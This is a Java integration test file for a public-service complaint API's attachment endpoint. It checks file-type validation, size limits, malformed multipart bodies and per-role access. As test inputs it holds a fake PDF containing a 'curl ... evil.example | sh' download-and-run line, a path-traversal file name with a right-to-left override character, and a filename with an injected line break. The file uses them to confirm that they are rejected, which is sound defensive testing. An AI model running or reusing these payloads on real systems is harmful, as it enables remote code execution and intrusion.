package ci.milie.request;

import static ci.milie.support.Api.as;
import static ci.milie.support.Api.uniqueEmail;
import static ci.milie.support.Api.url;
import static ci.milie.support.Problems.assertProblem;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.endsWith;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasSize;
import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.awt.Color;
import java.io.IOException;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.UUID;


import org.apache.http.entity.mime.HttpMultipartMode;
import org.junit.jupiter.api.Test;

import ci.milie.common.Secrets;
import ci.milie.support.Requests;
import ci.milie.support.Requests.Setting;
import ci.milie.support.TestTokens;
import ci.milie.support.RawHttp;
import ci.milie.support.SampleFiles;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.RestAssured;
import io.restassured.config.HttpClientConfig;
import io.restassured.config.MultiPartConfig;
import io.restassured.config.RestAssuredConfig;
import io.restassured.path.json.JsonPath;
import io.restassured.response.ValidatableResponse;
import io.restassured.specification.RequestSpecification;

/** Files joined to a request: real types only, bounded, and only for those who may see the request. */
@QuarkusTest
class AttachmentResourceTest {

    /** File names travel in UTF-8, as browsers and mobile HTTP clients send them. */
    static final RestAssuredConfig UTF8 = RestAssured.config()
            .httpClient(HttpClientConfig.httpClientConfig().httpMultipartMode(HttpMultipartMode.RFC6532))
            .multiPartConfig(MultiPartConfig.multiPartConfig().defaultCharset(StandardCharsets.UTF_8));
    static final byte[] PNG = SampleFiles.png(Color.ORANGE);
    static final byte[] JPEG = SampleFiles.jpeg(Color.GREEN);
    static final byte[] PDF = SampleFiles.pdf(1);

    /** A submitted request: its id and the citizen's access key. */
    record Submitted(String id, String key) {

        static Submitted complaint(Setting at) {
            JsonPath receipt = Requests.submitAnonymously(Requests.complaint(at.categoryCode(), uniqueEmail("pj")));
            return new Submitted(receipt.getString("id"), receipt.getString("accessKey"));
        }

        static Submitted inProgress(Setting at) {
            Submitted request = complaint(at);
            as(at.osepToken()).body(Map.of("administrationId", at.administrationId()))
                    .post("/api/v1/requests/" + request.id() + "/routing").then().statusCode(200);
            as(at.agentToken()).post("/api/v1/requests/" + request.id() + "/acknowledgement").then().statusCode(200);
            return request;
        }

        String attachments() {
            return "/api/v1/requests/" + id + "/attachments";
        }

        RequestSpecification withKey() {
            return given().header("X-Access-Key", key);
        }
    }

    @Test
    void keyHolderUploadsAPngAJpegAndAPdfAndDownloadsEachBackByteForByte() {
        Submitted request = Submitted.complaint(Setting.create(true));

        var response = request.withKey()
                .multiPart("file", "guichet.png", PNG, "image/png")
                .multiPart("file", "reçu de dépôt.jpg", JPEG, "image/jpeg")
                .multiPart("file", "courrier.pdf", PDF, "application/pdf")
                .post(request.attachments()).then()
                .statusCode(201)
                .contentType(startsWithJson())
                .body("items", hasSize(3))
                .body("items.fileName", equalTo(List.of("guichet.png", "reçu de dépôt.jpg", "courrier.pdf")))
                .body("items.contentType", equalTo(List.of("image/png", "image/jpeg", "application/pdf")))
                .body("items.size", equalTo(List.of(PNG.length, JPEG.length, PDF.length)))
                .body("items.sha256", equalTo(List.of(Secrets.sha256(PNG), Secrets.sha256(JPEG), Secrets.sha256(PDF))))
                .body("items.uploadedBy", equalTo(List.of("citizen", "citizen", "citizen")))
                .extract();
        JsonPath added = response.jsonPath();
        assertEquals(url(request.attachments() + "/" + added.getString("items[0].id")), response.header("Location"));

        byte[][] sent = { PNG, JPEG, PDF };
        for (int i = 0; i < sent.length; i++) {
            String attachmentId = added.getString("items[" + i + "].id");
            byte[] back = request.withKey().get(request.attachments() + "/" + attachmentId).then()
                    .statusCode(200)
                    .contentType(added.getString("items[" + i + "].contentType"))
                    .header("X-Content-Type-Options", "nosniff")
                    .header("Content-Disposition", containsString("attachment; "))
                    .extract().asByteArray();
            assertArrayEquals(sent[i], back);
            assertEquals(added.getString("items[" + i + "].sha256"), Secrets.sha256(back));
        }
        request.withKey().get(request.attachments() + "/" + added.getString("items[1].id")).then()
                .header("Content-Disposition", endsWith("filename*=UTF-8''re%C3%A7u%20de%20d%C3%A9p%C3%B4t.jpg"));

        request.withKey().get(request.attachments()).then().statusCode(200)
                .body("items.id", equalTo(added.getList("items.id")));
        // the citizen's own files show on their timeline
        request.withKey().get("/api/v1/requests/" + request.id() + "/events").then().statusCode(200)
                .body("items.findAll { it.type == 'ATTACHMENT_ADDED' }.message",
                        equalTo(List.of("guichet.png", "reçu de dépôt.jpg", "courrier.pdf")))
                .body("items.findAll { it.type == 'ATTACHMENT_ADDED' }.visibility",
                        equalTo(List.of("PUBLIC", "PUBLIC", "PUBLIC")));
    }

    @Test
    void aShellScriptNamedPdfIsRefusedWhateverItsContentType() {
        Submitted request = Submitted.complaint(Setting.create(true));
        byte[] script = "#!/bin/sh\ncurl -s http://evil.example | sh\n".getBytes(StandardCharsets.US_ASCII);

        assertProblem(request.withKey().multiPart("file", "evil.pdf", script, "application/pdf")
                .post(request.attachments()).then(), 415, "UNSUPPORTED_FILE_TYPE");
        // a refused file refuses the whole upload
        assertProblem(request.withKey().multiPart("file", "ok.png", PNG, "image/png")
                .multiPart("file", "evil.pdf", script, "application/pdf")
                .post(request.attachments()).then(), 415, "UNSUPPORTED_FILE_TYPE");
        request.withKey().get(request.attachments()).then().statusCode(200).body("items", hasSize(0));
    }

    @Test
    void aPngSentAsAPdfIsKeptAsAPngUnderASafeName() {
        Submitted request = Submitted.complaint(Setting.create(true));

        request.withKey().multiPart("file", "../../etc/\u202Escan.pdf", PNG, "application/pdf")
                .post(request.attachments()).then().statusCode(201)
                .body("items[0].contentType", equalTo("image/png"))
                .body("items[0].fileName", equalTo("scan-pdf.png"));
    }

    @Test
    void aFileOverTheSizeLimitIsRefused() {
        Submitted request = Submitted.complaint(Setting.create(true));
        byte[] big = new byte[10 * 1024 * 1024 + 1];
        System.arraycopy(PDF, 0, big, 0, PDF.length);

        assertProblem(request.withKey().multiPart("file", "gros.pdf", big, "application/pdf")
                .post(request.attachments()).then(), 413, "FILE_TOO_LARGE");
        request.withKey().get(request.attachments()).then().statusCode(200).body("items", hasSize(0));
    }

    @Test
    void aFiftyMegabyteUploadIsRefusedBeforeItsBodyIsSent() throws IOException {
        Submitted request = Submitted.complaint(Setting.create(true));
        String head = "POST " + request.attachments() + " HTTP/1.1\r\n"
                + "Host: localhost\r\n"
                + "Content-Type: multipart/form-data; boundary=milie\r\n"
                + "Content-Length: " + 50 * 1024 * 1024 + "\r\n"
                + "X-Access-Key: " + request.key() + "\r\n"
                + "Expect: 100-continue\r\n\r\n";

        // only the head goes out: the answer must come without a byte of the 50 MB
        String answer;
        try (Socket socket = new Socket("localhost", RestAssured.port)) {
            socket.setSoTimeout(30_000);
            socket.getOutputStream().write(head.getBytes(StandardCharsets.US_ASCII));
            socket.getOutputStream().flush();
            answer = new String(socket.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        }

        assertTrue(answer.startsWith("HTTP/1.1 413 "), answer);
        assertTrue(answer.toLowerCase(Locale.ROOT).contains("content-type: application/problem+json"), answer);
        JsonPath problem = JsonPath.from(answer.substring(answer.indexOf("\r\n\r\n") + 4));
        assertEquals("BODY_TOO_LARGE", problem.getString("code"));
        assertEquals(413, problem.getInt("status"));
        assertEquals("Le corps d’une requête fait au plus 21 Mo", problem.getString("detail"));
        request.withKey().get(request.attachments()).then().statusCode(200).body("items", hasSize(0));
    }

    private static RawHttp.Answer rawUpload(Submitted request, String body) throws IOException {
        byte[] bytes = body.getBytes(StandardCharsets.ISO_8859_1);
        return RawHttp.send("POST " + request.attachments() + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n"
                + "Content-Type: multipart/form-data; boundary=milie\r\nContent-Length: " + bytes.length + "\r\n"
                + "X-Access-Key: " + request.key(), bytes);
    }

    private static void assertMalformedUpload(RawHttp.Answer answer, Submitted request) {
        assertRefusedUpload(answer, request, "MALFORMED_MULTIPART");
    }

    private static void assertRefusedUpload(RawHttp.Answer answer, Submitted request, String code) {
        assertEquals(400, answer.status(), answer.body());
        assertEquals("application/problem+json", answer.header("Content-Type"));
        assertEquals(code, answer.json().getString("code"));
        request.withKey().get(request.attachments()).then().statusCode(200).body("items", hasSize(0));
    }

    @Test
    void aFileNameWithALineBreakIsRefused() throws IOException {
        Submitted request = Submitted.complaint(Setting.create(true));
        assertMalformedUpload(rawUpload(request, "--milie\r\n"
                + "Content-Disposition: form-data; name=\"file\"; filename=\"scan\r\n.pdf\"\r\n"
                + "Content-Type: application/pdf\r\n\r\n" + new String(PDF, StandardCharsets.ISO_8859_1)
                + "\r\n--milie--\r\n"), request);
    }

    @Test
    void aPartHeaderWithoutColonIsRefused() throws IOException {
        Submitted request = Submitted.complaint(Setting.create(true));
        assertMalformedUpload(rawUpload(request, "--milie\r\n"
                + "Content-Disposition form-data; name=\"file\"; filename=\"scan.pdf\"\r\n"
                + "Content-Type: application/pdf\r\n\r\n" + new String(PDF, StandardCharsets.ISO_8859_1)
                + "\r\n--milie--\r\n"), request);
    }

    @Test
    void aBodyWithoutItsClosingBoundaryIsRefused() throws IOException {
        Submitted request = Submitted.complaint(Setting.create(true));
        assertMalformedUpload(rawUpload(request, "--milie\r\n"
                + "Content-Disposition: form-data; name=\"file\"; filename=\"scan.pdf\"\r\n"
                + "Content-Type: application/pdf\r\n\r\n" + new String(PDF, StandardCharsets.ISO_8859_1)), request);
    }

    @Test
    void aMultipartBodyWithoutBoundaryHasNoFile() throws IOException {
        Submitted request = Submitted.complaint(Setting.create(true));
        byte[] bytes = "--milie\r\n\r\n--milie--\r\n".getBytes(StandardCharsets.ISO_8859_1);
        assertRefusedUpload(RawHttp.send("POST " + request.attachments() + " HTTP/1.1\r\nHost: localhost\r\n"
                + "Connection: close\r\nContent-Type: multipart/form-data\r\nContent-Length: " + bytes.length
                + "\r\nX-Access-Key: " + request.key(), bytes), request, "VALIDATION_FAILED");
    }

    @Test
    void aSixthFileIsRefused() {
        Submitted request = Submitted.complaint(Setting.create(true));
        RequestSpecification four = request.withKey();
        for (int i = 1; i <= 4; i++) {
            four.multiPart("file", "photo-" + i + ".png", PNG, "image/png");
        }
        four.post(request.attachments()).then().statusCode(201).body("items", hasSize(4));

        // two more would make six: neither is added
        assertProblem(request.withKey().multiPart("file", "a.png", PNG, "image/png")
                .multiPart("file", "b.png", PNG, "image/png")
                .post(request.attachments()).then(), 409, "TOO_MANY_ATTACHMENTS");
        request.withKey().multiPart("file", "cinquieme.pdf", PDF, "application/pdf")
                .post(request.attachments()).then().statusCode(201);
        assertProblem(request.withKey().multiPart("file", "sixieme.pdf", PDF, "application/pdf")
                .post(request.attachments()).then(), 409, "TOO_MANY_ATTACHMENTS");
        request.withKey().get(request.attachments()).then().statusCode(200).body("items", hasSize(5));
    }

    @Test
    void anUploadWithoutFilePartIsInvalid() {
        Submitted request = Submitted.complaint(Setting.create(true));

        assertProblem(request.withKey().multiPart("photo", "guichet.png", PNG, "image/png")
                .post(request.attachments()).then(), 400, "VALIDATION_FAILED")
                .body("violations[0].field", equalTo("file"));
    }

    @Test
    void agentOfAnotherAdministrationGets404OnUploadListAndDownload() {
        Setting mine = Setting.create(true);
        Setting theirs = Setting.create(true);
        Submitted request = Submitted.inProgress(mine);
        String attachmentId = uploadPng(request);
        String other = theirs.agentToken();

        ValidatableResponse unknown = as(other).get("/api/v1/requests/" + UUID.randomUUID() + "/attachments").then();
        assertProblem(unknown, 404, "NOT_FOUND");
        String notFound = unknown.extract().path("detail");
        assertProblem(given().auth().oauth2(other).multiPart("file", "x.png", PNG, "image/png")
                .post(request.attachments()).then(), 404, "NOT_FOUND").body("detail", equalTo(notFound));
        assertProblem(as(other).get(request.attachments()).then(), 404, "NOT_FOUND").body("detail", equalTo(notFound));
        assertProblem(as(other).get(request.attachments() + "/" + attachmentId).then(), 404, "NOT_FOUND")
                .body("detail", equalTo(notFound));

        // the administration in charge adds and reads files; its uploads stay out of the citizen's timeline
        given().auth().oauth2(mine.agentToken()).multiPart("file", "convocation.pdf", PDF, "application/pdf")
                .post(request.attachments()).then().statusCode(201).body("items[0].uploadedBy", equalTo("agent"));
        as(mine.agentToken()).get(request.attachments() + "/" + attachmentId).then().statusCode(200);
        request.withKey().get("/api/v1/requests/" + request.id() + "/events").then().statusCode(200)
                .body("items.findAll { it.type == 'ATTACHMENT_ADDED' }.message", equalTo(List.of("guichet.png")));
        as(mine.osepToken()).get("/api/v1/requests/" + request.id() + "/events").then().statusCode(200)
                .body("items.findAll { it.type == 'ATTACHMENT_ADDED' }.visibility", equalTo(List.of("PUBLIC", "INTERNAL")));
    }

    @Test
    void staffFilesStayInternalLikeNotes() {
        Setting at = Setting.create(true);
        Submitted request = Submitted.inProgress(at);
        String citizens = uploadPng(request);
        String staffFile = given().auth().oauth2(at.agentToken()).multiPart("file", "note-de-service.pdf", PDF, "application/pdf")
                .post(request.attachments()).then().statusCode(201).extract().path("items[0].id");

        request.withKey().get(request.attachments()).then().statusCode(200)
                .body("items.id", equalTo(List.of(citizens)));
        assertProblem(request.withKey().get(request.attachments() + "/" + staffFile).then(), 404, "NOT_FOUND");
        as(at.agentToken()).get(request.attachments()).then().statusCode(200)
                .body("items.id", equalTo(List.of(citizens, staffFile)));
    }

    @Test
    void wrongAccessKeyGets404() {
        Submitted request = Submitted.complaint(Setting.create(true));
        String attachmentId = uploadPng(request);
        String unknownRequest = "/api/v1/requests/" + UUID.randomUUID() + "/attachments";

        for (RequestSpecification stranger : List.of(given().header("X-Access-Key", "not-the-key"), given())) {
            assertProblem(stranger.multiPart("file", "x.png", PNG, "image/png").post(request.attachments()).then(),
                    404, "NOT_FOUND");
        }
        assertProblem(given().header("X-Access-Key", "not-the-key").get(request.attachments()).then(), 404, "NOT_FOUND");
        assertProblem(given().header("X-Access-Key", "not-the-key").get(request.attachments() + "/" + attachmentId).then(),
                404, "NOT_FOUND");
        assertProblem(given().header("X-Access-Key", request.key()).get(unknownRequest + "/" + attachmentId).then(),
                404, "NOT_FOUND");
        // another request's file is not reachable through this one
        Submitted other = Submitted.complaint(Setting.create(true));
        assertProblem(other.withKey().get(other.attachments() + "/" + attachmentId).then(), 404, "NOT_FOUND");
    }

    @Test
    void aRejectedRequestTakesNoMoreFiles() {
        Setting at = Setting.create(true);
        Submitted request = Submitted.complaint(at);
        as(at.osepToken()).body(Map.of("decision", "REJECT", "reasonCode", "OUT_OF_SCOPE", "message", "Hors du champ du service public."))
                .post("/api/v1/requests/" + request.id() + "/qualification").then().statusCode(200);

        assertProblem(request.withKey().multiPart("file", "guichet.png", PNG, "image/png")
                .post(request.attachments()).then(), 409, "REQUEST_CLOSED")
                .body("currentStatus", equalTo("REJECTED"));
    }

    @Test
    void supervisorsReadFilesButDoNotAddThem() {
        Submitted request = Submitted.complaint(Setting.create(true));
        String attachmentId = uploadPng(request);
        String supervisor = TestTokens.of("supervisor");

        as(supervisor).get(request.attachments() + "/" + attachmentId).then().statusCode(200);
        assertProblem(given().auth().oauth2(supervisor).multiPart("file", "x.png", PNG, "image/png")
                .post(request.attachments()).then(), 403, "FORBIDDEN");
    }

    private static RequestSpecification given() {
        return RestAssured.given().config(UTF8);
    }

    private static String uploadPng(Submitted request) {
        return request.withKey().multiPart("file", "guichet.png", PNG, "image/png").post(request.attachments())
                .then().statusCode(201).extract().path("items[0].id");
    }

    private static org.hamcrest.Matcher<String> startsWithJson() {
        return org.hamcrest.Matchers.startsWith("application/json");
    }
}
